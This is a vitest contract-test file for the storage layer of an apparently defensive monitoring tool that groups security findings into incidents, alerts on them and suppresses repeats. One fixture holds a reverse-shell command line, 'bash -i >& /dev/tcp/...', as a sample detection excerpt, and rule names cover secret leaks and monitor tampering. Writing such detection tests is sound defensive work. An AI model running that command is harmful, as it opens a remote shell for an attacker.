import { expect, it } from 'vitest';
import type { Severity } from '#shared/model/finding';
import type {
  IncidentRecordInput,
  IncidentRecordResult,
  IncidentStore,
  IncidentWindow,
  NonceStore,
  SeenStore,
  SuppressionStore,
  TranscriptWatch,
  WindowStore,
} from '#shared/state/types';

/**
 * The contracts of shared/state/types.ts as tests, run against the in-memory stores (test/cli) and the
 * DynamoDB ones on dynalite (test/aws): call inside a describe. `make` gives an empty store each time.
 */
type Make<T> = () => T | Promise<T>;

const MIN = 60_000;

export function windowMembersContract(make: Make<WindowStore>): void {
  it('members: the distinct ids within [t - window, t], edges included, read only', async () => {
    const s = await make();
    const w = 10 * MIN;
    const base = 3_000 * w - MIN; // one minute before a bucket edge
    expect(await s.members('fan', base, w)).toEqual(new Set());
    expect(await s.hit('fan', 'i-1', base, w)).toBe(1); // members wrote nothing
    await s.hit('fan', 'i-2', base + 30_000, w);
    await s.hit('fan', 'i-2', base + 30_000, w); // re-delivery
    await s.hit('fan', 'i-3', base + 2 * MIN, w); // across the bucket edge
    await s.hit('other', 'i-9', base, w);
    expect(await s.members('fan', base + 2 * MIN, w)).toEqual(new Set(['i-1', 'i-2', 'i-3']));
    expect(await s.members('fan', base + w, w)).toEqual(new Set(['i-1', 'i-2', 'i-3'])); // i-1 on the edge
    expect(await s.members('fan', base + w + 1, w)).toEqual(new Set(['i-2', 'i-3']));
    expect(await s.members('fan', base + 30_000 - 1, w)).toEqual(new Set(['i-1'])); // i-2 is later
    expect(await s.members('nobody', base, w)).toEqual(new Set());
  });

  it('members: an id reached again later stays in the window, counted once', async () => {
    const s = await make();
    const w = 10 * MIN;
    const base = 4_000 * w;
    await s.hit('fan', 'i-1', base, w);
    await s.hit('fan', 'i-2', base + 3 * MIN, w);
    expect(await s.hit('fan', 'i-1', base + 9 * MIN, w)).toBe(2);
    // The first time of i-1 left the window; its second one holds it in.
    expect(await s.members('fan', base + 12 * MIN, w)).toEqual(new Set(['i-1', 'i-2']));
    expect(await s.count('fan', 'i-2', base + 12 * MIN, w)).toBe(1);
    expect(await s.members('fan', base + 19 * MIN + 1, w)).toEqual(new Set());
  });
}

export function seenContract(make: Make<SeenStore>): void {
  it('last: undefined for an unknown key, then the latest time marked', async () => {
    const s = await make();
    expect(await s.last('seen#p1')).toBeUndefined();
    await s.mark('seen#p1', 2_000, 30);
    expect(await s.last('seen#p1')).toBe(2_000);
    await s.mark('seen#p1', 2_000, 30); // idempotent
    expect(await s.last('seen#p1')).toBe(2_000);
    await s.mark('seen#p1', 1_000, 30); // an earlier, late event changes nothing
    expect(await s.last('seen#p1')).toBe(2_000);
    await s.mark('seen#p1', 3_000, 30);
    expect(await s.last('seen#p1')).toBe(3_000);
    expect(await s.last('seen#p2')).toBeUndefined();
  });

  it('concurrent marks keep the maximum', async () => {
    const s = await make();
    const times = [5, 9, 1, 7, 3, 8, 2, 6].map((n) => n * 1_000);
    await Promise.all(times.map((t) => s.mark('seen#race', t, 30)));
    expect(await s.last('seen#race')).toBe(9_000);
  });
}

export function transcriptWatchContract(make: Make<TranscriptWatch>): void {
  const m = 29_000_000; // a minute number: due buckets start at m * MIN

  it('due: [from, to) to the millisecond, across minute edges', async () => {
    const s = await make();
    const at = {
      before: m * MIN - 1,
      start: m * MIN,
      end: m * MIN + MIN - 1,
      next: (m + 1) * MIN,
      mid: m * MIN + 30_000,
    };
    for (const [id, t] of Object.entries(at)) await s.expect(id, t);
    expect(await s.due(m * MIN, (m + 1) * MIN)).toEqual(['start', 'mid', 'end']);
    expect(await s.due(m * MIN + 30_000, m * MIN + 30_001)).toEqual(['mid']);
    expect(await s.due(m * MIN + 1, m * MIN + 30_000)).toEqual([]);
    expect(await s.due(m * MIN - 1, (m + 1) * MIN + 1)).toEqual(['before', 'start', 'mid', 'end', 'next']);
    expect(await s.due(m * MIN, m * MIN)).toEqual([]);
    expect(await s.due((m + 1) * MIN, m * MIN)).toEqual([]);
  });

  it('due: back-to-back windows return every expectation exactly once', async () => {
    const s = await make();
    const dues = Array.from({ length: 40 }, (_, i) => m * MIN + i * 7_919); // spread over 6 minutes
    for (const [i, t] of dues.entries()) await s.expect(`s-${i}`, t);
    const cuts = [
      m * MIN - 5,
      m * MIN + 12_345,
      m * MIN + 60_000,
      m * MIN + 60_001,
      m * MIN + 200_000,
      (m + 7) * MIN,
    ];
    const got: string[] = [];
    for (let i = 1; i < cuts.length; i++) got.push(...(await s.due(cuts[i - 1]!, cuts[i]!)));
    expect(got).toEqual(dues.map((_, i) => `s-${i}`));
  });

  it('expect is idempotent; ids come in due order, each once at its earliest due time', async () => {
    const s = await make();
    const base = (m + 100) * MIN;
    await s.expect('late', base + 50_000);
    await s.expect('early', base + 10_000);
    await s.expect('early', base + 10_000);
    await s.expect('twice', base + 70_000);
    await s.expect('twice', base + 20_000);
    await Promise.all(['c1', 'c2', 'c3', 'c1'].map((id) => s.expect(id, base + 30_000)));
    expect(await s.due(base, base + 2 * MIN)).toEqual(['early', 'twice', 'c1', 'c2', 'c3', 'late']);
    expect(await s.due(base + 60_000, base + 2 * MIN)).toEqual(['twice']);
  });

  it('transcriptSeen: only after an arrival of that session', async () => {
    const s = await make();
    expect(await s.transcriptSeen('s-1')).toBe(false);
    await s.arrived('s-1', m * MIN);
    await s.arrived('s-1', m * MIN); // idempotent
    expect(await s.transcriptSeen('s-1')).toBe(true);
    expect(await s.transcriptSeen('s-2')).toBe(false);
  });

  it('streaming: the scope had an arrival at or after atMs - withinMs', async () => {
    const s = await make();
    const scope = { account: '111122223333', region: 'eu-west-1' };
    const t = m * MIN;
    const within = 7 * 86_400_000;
    expect(await s.streaming(scope, t, within)).toBe(false);
    await s.arrived('s-1', t, scope);
    expect(await s.streaming(scope, t + within, within)).toBe(true); // edge included
    expect(await s.streaming(scope, t + within + 1, within)).toBe(false);
    expect(await s.streaming(scope, t - 1_000, within)).toBe(true); // a later arrival counts too
    expect(await s.streaming({ ...scope, region: 'us-east-1' }, t, within)).toBe(false);
    expect(await s.streaming({ account: '444455556666', region: 'eu-west-1' }, t, within)).toBe(false);
    // A scope without account or Region matches nothing, and is not recorded.
    expect(await s.streaming({ account: scope.account }, t, within)).toBe(false);
    await s.arrived('s-2', t, { region: 'ap-south-1' });
    expect(await s.streaming({ region: 'ap-south-1' }, t, within)).toBe(false);
    expect(await s.streaming({ account: '', region: 'ap-south-1' }, t, within)).toBe(false);
    expect(await s.transcriptSeen('s-2')).toBe(true);
  });

  it('streaming: an older arrival never lowers the latest', async () => {
    const s = await make();
    const scope = { account: '111122223333', region: 'eu-west-2' };
    const t = m * MIN;
    await s.arrived('s-new', t + 5 * MIN, scope);
    await s.arrived('s-old', t, scope);
    expect(await s.streaming(scope, t + 5 * MIN + 60_000, 60_000)).toBe(true);
  });

  it('cursor: undefined until advanced, never moves back', async () => {
    const s = await make();
    expect(await s.cursor()).toBeUndefined();
    await s.advance(m * MIN);
    expect(await s.cursor()).toBe(m * MIN);
    await s.advance(m * MIN - 1);
    expect(await s.cursor()).toBe(m * MIN);
    await s.advance(m * MIN + 1);
    expect(await s.cursor()).toBe(m * MIN + 1);
    await Promise.all([3, 9, 1, 5].map((n) => s.advance(m * MIN + n * 1_000)));
    expect(await s.cursor()).toBe(m * MIN + 9_000);
  });
}

const T0 = Date.parse('2026-03-01T12:00:00Z');
const WINDOW = 15 * MIN;

function incidentInput(
  over: Partial<IncidentRecordInput> & { id: string; severity?: Severity; ruleId?: string; excerpt?: string },
): IncidentRecordInput {
  const { id, severity = 'HIGH', ruleId = 'cmd-reverse-shell', excerpt, ...rest } = over;
  return {
    key: 'session\u0000mallory-0a1b2c3d4e5f6a7b8',
    scope: 'session',
    subject: { scope: 'session', sessionId: 'mallory-0a1b2c3d4e5f6a7b8', category: 'risky-command' },
    finding: { id, ruleId, severity, ...(excerpt ? { excerpt } : {}) },
    nowMs: T0,
    windowMs: WINDOW,
    ...rest,
  };
}

async function claimed(
  s: IncidentStore,
  key: string,
  window: number,
  nowMs: number,
): Promise<IncidentWindow> {
  const c = await s.claim(key, window, nowMs, nowMs + 2 * MIN);
  if (c.status !== 'claimed') throw new Error(`window ${window} not claimable: ${c.status}`);
  return c.window;
}

const total = (w: IncidentWindow) => w.counts.reduce((n, c) => n + c.count, 0);

export function incidentContract(make: Make<IncidentStore>): void {
  it('a session alerts on its first finding and once more on its first CRITICAL; the rest is held', async () => {
    const s = await make();
    expect(await s.record(incidentInput({ id: 'a' }))).toEqual({
      window: 1,
      closesAtMs: T0 + WINDOW,
      immediate: 'opened',
    });
    expect(await s.record(incidentInput({ id: 'b', nowMs: T0 + MIN }))).toEqual({
      window: 1,
      closesAtMs: T0 + WINDOW,
    });
    const crit = await s.record(incidentInput({ id: 'c', severity: 'CRITICAL', nowMs: T0 + 2 * MIN }));
    expect(crit.immediate).toBe('escalated');
    expect(
      (await s.record(incidentInput({ id: 'd', severity: 'CRITICAL', nowMs: T0 + 3 * MIN }))).immediate,
    ).toBeUndefined();
    // A re-delivery of the opening finding holds the claim again: its alert is sent again, not lost.
    expect((await s.record(incidentInput({ id: 'a', nowMs: T0 + 4 * MIN }))).immediate).toBe('opened');
    // A later window of the same session opens no new alert.
    const later = await s.record(incidentInput({ id: 'e', nowMs: T0 + WINDOW + MIN }));
    expect(later).toEqual({ window: 2, closesAtMs: T0 + WINDOW + MIN + WINDOW });
  });

  it('an incident opened by a CRITICAL finding does not escalate again', async () => {
    const s = await make();
    expect((await s.record(incidentInput({ id: 'a', severity: 'CRITICAL' }))).immediate).toBe('opened');
    expect((await s.record(incidentInput({ id: 'b', severity: 'CRITICAL' }))).immediate).toBeUndefined();
  });

  it('findings without a session open an alert per principal window', async () => {
    const s = await make();
    const p = (id: string, nowMs: number) =>
      incidentInput({
        id,
        nowMs,
        key: 'principal\u0000111122223333\u0000arn:aws:iam::111122223333:user/mallory\u0000monitor-tampering',
        scope: 'principal',
        subject: { scope: 'principal', category: 'monitor-tampering' },
      });
    expect((await s.record(p('t1', T0))).immediate).toBe('opened');
    expect((await s.record(p('t2', T0 + MIN))).immediate).toBeUndefined();
    expect(await s.record(p('t3', T0 + WINDOW))).toEqual({
      window: 2,
      closesAtMs: T0 + 2 * WINDOW,
      immediate: 'opened',
    });
  });

  it('keeps incidents apart by key', async () => {
    const s = await make();
    expect((await s.record(incidentInput({ id: 'a' }))).immediate).toBe('opened');
    expect((await s.record(incidentInput({ id: 'b', key: 'session\u0000other-1' }))).immediate).toBe(
      'opened',
    );
  });

  it('due lists closing windows in [from, to) by close time; claim gives counts, excerpts and what was alerted', async () => {
    const s = await make();
    await s.record(incidentInput({ id: 'a', excerpt: 'bash -i >& /dev/tcp/203.0.113.9/4444' }));
    await s.record(incidentInput({ id: 'b', nowMs: T0 + MIN, excerpt: 'second excerpt' }));
    await s.record(
      incidentInput({
        id: 'c',
        ruleId: 'secret-aws-access-key',
        severity: 'CRITICAL',
        excerpt: 'AKIA************MPLE',
      }),
    );
    await s.record(incidentInput({ id: 'b', nowMs: T0 + 2 * MIN }));
    const other = incidentInput({ id: 'x', key: 'session\u0000other-1', nowMs: T0 + 5 * MIN });
    await s.record(other);
    const due = await s.due(T0, T0 + WINDOW + 5 * MIN + 1);
    expect(due.map((d) => [d.window, d.closesAtMs])).toEqual([
      [1, T0 + WINDOW],
      [1, T0 + 5 * MIN + WINDOW],
    ]);
    expect(await s.due(T0, T0 + WINDOW)).toEqual([]);
    const w = await claimed(s, due[0]!.key, 1, T0 + WINDOW);
    expect(w.subject).toEqual(incidentInput({ id: 'a' }).subject);
    expect([w.openedAtMs, w.closesAtMs]).toEqual([T0, T0 + WINDOW]);
    expect(w.counts.sort((a, b) => a.ruleId.localeCompare(b.ruleId))).toEqual([
      { ruleId: 'cmd-reverse-shell', severity: 'HIGH', count: 2 },
      { ruleId: 'secret-aws-access-key', severity: 'CRITICAL', count: 1 },
    ]);
    expect(w.excerpts).toEqual({
      'cmd-reverse-shell': 'bash -i >& /dev/tcp/203.0.113.9/4444',
      'secret-aws-access-key': 'AKIA************MPLE',
    });
    expect(w.alerted).toBe(2);
  });

  it('claims a window once: busy while leased, claimable after the lease, done once digested', async () => {
    const s = await make();
    await s.record(incidentInput({ id: 'a' }));
    const [due] = await s.due(T0, T0 + WINDOW + 1);
    const at = T0 + WINDOW;
    expect((await s.claim(due!.key, 1, at, at + MIN)).status).toBe('claimed');
    expect((await s.claim(due!.key, 1, at + 30_000, at + 30_000 + MIN)).status).toBe('busy');
    expect((await s.claim(due!.key, 1, at + 2 * MIN, at + 3 * MIN)).status).toBe('claimed');
    await s.digested(due!.key, 1);
    expect((await s.claim(due!.key, 1, at + 10 * MIN, at + 11 * MIN)).status).toBe('done');
    expect((await s.claim(due!.key, 7, at, at + MIN)).status).toBe('done');
  });

  it('a finding after the claim goes to the next window, even before the close time it read', async () => {
    const s = await make();
    await s.record(incidentInput({ id: 'a' }));
    const [due] = await s.due(T0, T0 + WINDOW + 1);
    const w = await claimed(s, due!.key, 1, T0 + WINDOW);
    const late = await s.record(incidentInput({ id: 'b', nowMs: T0 + WINDOW - 1 }));
    expect(late.window).toBe(2);
    expect(total(w)).toBe(1);
    expect(total(await claimed(s, due!.key, 2, late.closesAtMs))).toBe(1);
  });

  it('concurrent deliveries: one opening alert, at most one escalation, every finding counted once', async () => {
    const s = await make();
    const n = 24;
    const results = await Promise.all(
      Array.from({ length: n }, (_, i) =>
        s.record(incidentInput({ id: `f${i}`, severity: i % 5 === 0 ? 'CRITICAL' : 'HIGH', nowMs: T0 + i })),
      ),
    );
    // Re-deliveries racing the originals change nothing.
    await Promise.all(
      Array.from({ length: 6 }, (_, i) =>
        s.record(
          incidentInput({ id: `f${i}`, severity: i % 5 === 0 ? 'CRITICAL' : 'HIGH', nowMs: T0 + 100 }),
        ),
      ),
    );
    expect(results.filter((r) => r.immediate === 'opened')).toHaveLength(1);
    expect(results.filter((r) => r.immediate === 'escalated').length).toBeLessThanOrEqual(1);
    expect(new Set(results.map((r) => r.window))).toEqual(new Set([1]));
    const [due] = await s.due(T0, T0 + WINDOW + 1);
    expect(total(await claimed(s, due!.key, 1, T0 + WINDOW))).toBe(n);
  });

  it('a claim racing deliveries loses no finding: each lands in the claimed window or the next', async () => {
    const s = await make();
    await s.record(incidentInput({ id: 'first' }));
    const [due] = await s.due(T0, T0 + WINDOW + 1);
    const n = 20;
    const [claim, ...results] = await Promise.all([
      s.claim(due!.key, 1, T0 + WINDOW, T0 + WINDOW + 2 * MIN),
      ...Array.from({ length: n }, (_, i) =>
        s.record(incidentInput({ id: `r${i}`, nowMs: T0 + WINDOW - 1 })),
      ),
    ]);
    if (claim?.status !== 'claimed') throw new Error('claim lost');
    const second = results.filter((r) => 'window' in r && r.window === 2);
    let counted = total(claim.window);
    if (second.length > 0) {
      const closes = (second[0] as IncidentRecordResult).closesAtMs;
      counted += total(await claimed(s, due!.key, 2, closes));
    }
    expect(counted).toBe(n + 1);
  });

  it('the cursor only moves forward', async () => {
    const s = await make();
    expect(await s.cursor()).toBeUndefined();
    await s.advance(T0);
    await s.advance(T0 - MIN);
    expect(await s.cursor()).toBe(T0);
  });
}

export function suppressionContract(make: Make<SuppressionStore>): void {
  const key = {
    ruleId: 'cmd-history-tampering',
    principal: 'arn:aws:iam::111122223333:user/ops',
    target: 'i-0abc1234def567890',
  };

  it('suppresses exactly the key, until its end', async () => {
    const s = await make();
    expect(await s.until(key, T0)).toBeUndefined();
    await s.put(key, T0 + 24 * 60 * MIN);
    expect(await s.until(key, T0)).toBe(T0 + 24 * 60 * MIN);
    expect(await s.until(key, T0 + 24 * 60 * MIN)).toBeUndefined();
    expect(await s.until({ ...key, target: 'i-0fff1234def567890' }, T0)).toBeUndefined();
    expect(await s.until({ ...key, principal: undefined }, T0)).toBeUndefined();
    expect(await s.until({ ...key, ruleId: 'cmd-reverse-shell' }, T0)).toBeUndefined();
  });

  it('keeps a key without principal or target apart, and the latest put wins', async () => {
    const s = await make();
    const bare = { ruleId: 'monitor-trail-stopped' };
    await s.put(bare, T0 + MIN);
    expect(await s.until(bare, T0)).toBe(T0 + MIN);
    expect(await s.until(key, T0)).toBeUndefined();
    await s.put(bare, T0 - 1);
    expect(await s.until(bare, T0)).toBeUndefined();
  });
}

export function nonceContract(make: Make<NonceStore>): void {
  it('admits a nonce once, also when raced', async () => {
    const s = await make();
    const claims = await Promise.all(Array.from({ length: 8 }, () => s.claim('v0=abc', T0 + 5 * MIN)));
    expect(claims.filter(Boolean)).toHaveLength(1);
    expect(await s.claim('v0=abc', T0 + 10 * MIN)).toBe(false);
    expect(await s.claim('v0=abd', T0 + 5 * MIN)).toBe(true);
  });
}
